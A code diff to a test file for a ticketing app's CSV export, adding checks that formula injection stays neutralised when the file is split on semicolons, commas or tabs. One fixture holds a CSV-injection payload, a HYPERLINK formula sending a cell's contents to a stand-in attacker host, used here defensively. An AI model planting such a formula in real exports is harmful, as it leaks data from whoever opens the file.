@@ -2,7 +2,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Ticket } from '../../src/tickets/service';
 import { type Dinner, makeDinner } from '../privacy/setup';
 import { GUESTS, type GuestKey, SHARES_WITH_HOST, seatMatrix } from './guests';
-import { bodyText, checkFolding, readCsv, readVcards } from './parse';
+import { bodyText, cellsSplitOn, checkFolding, isLiveFormula, readCsv, readVcards } from './parse';
 
 let d: Dinner;
 let t: Record<GuestKey, Ticket>;
@@ -24,6 +24,8 @@ const get = async (format: string, filter?: string) => {
 const safe = (v = '') => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
 /** A phone number made only of what the purchase form allows is no formula: it stays as typed. */
 const phone = (v = '') => (/^[+0-9 ()/-]*$/.test(v) ? v : safe(v));
+/** The guard goes after the semicolon too: German Excel starts a cell there (src/exports/csv.ts). */
+const LUKASZ_COMPANY = 'Żółć & Syn;\'=HYPERLINK("http://evil.example/?x="&A1,"Sp. z o.o.")';
 const keyOf = (name: string) => (Object.keys(GUESTS) as GuestKey[]).find((k) => GUESTS[k].name === name)!;
 
 describe('CSV export (RFC 4180, BOM, formula-safe), read back with csv-parse', () => {
@@ -53,7 +55,7 @@ describe('CSV export (RFC 4180, BOM, formula-safe), read back with csv-parse', (
       const g: Record<string, string | undefined> = GUESTS[key];
       const shares = SHARES_WITH_HOST[key];
       expect(row['Shares contact details'], key).toBe(shares ? 'yes' : 'no');
-      expect(row.Company, key).toBe(shares ? safe(g.company) : '');
+      expect(row.Company, key).toBe(shares ? (key === 'hostOnly' ? LUKASZ_COMPANY : safe(g.company)) : '');
       expect(row.Role, key).toBe(shares ? safe(g.role ?? 'CEO') : '');
       expect(row.Email, key).toBe(shares ? t[key].email : '');
       expect(row.Phone, key).toBe(shares ? phone(g.phone) : '');
@@ -82,6 +84,25 @@ describe('CSV export (RFC 4180, BOM, formula-safe), read back with csv-parse', (
     const lukasz = rows.find((r) => r.Name === 'Łukasz Żółć')!;
     expect(lukasz.Phone).toBe('-49 30 98765');
     expect(lukasz.Role).toBe("'@Head of Sales");
+  });
+
+  it('read as German Excel reads it (split on ";"), or split on tabs or commas blindly, no cell is a live formula', async () => {
+    const { text } = await get('csv', 'paid');
+    const phones = new Set(Object.values(GUESTS).map((g) => ('phone' in g ? g.phone : '')));
+    for (const [separator, mode] of [
+      [';', 'quotes'],
+      [';', 'naive'],
+      [',', 'naive'],
+      ['\t', 'naive'],
+    ] as const) {
+      const cells = cellsSplitOn(text, separator, mode);
+      expect(cells.length).toBeGreaterThanOrEqual(8);
+      // A phone number as typed ("+49 69 …", digits and + ( ) / - only) calls no function and reaches no cell.
+      const live = cells.filter((c) => isLiveFormula(c) && !phones.has(c.replace(/^[\s"]+|[\s"]+$/g, '')));
+      expect(live, `${JSON.stringify(separator)} ${mode}`).toEqual([]);
+    }
+    // Without the guard after the separator, the ";" read would have found Łukasz's company as a formula.
+    expect(cellsSplitOn(text.replaceAll(";'=", ';='), ';', 'quotes').filter(isLiveFormula).length).toBeGreaterThan(0);
   });
 
   it('filters: checked in, greeted; paid is the default', async () => {
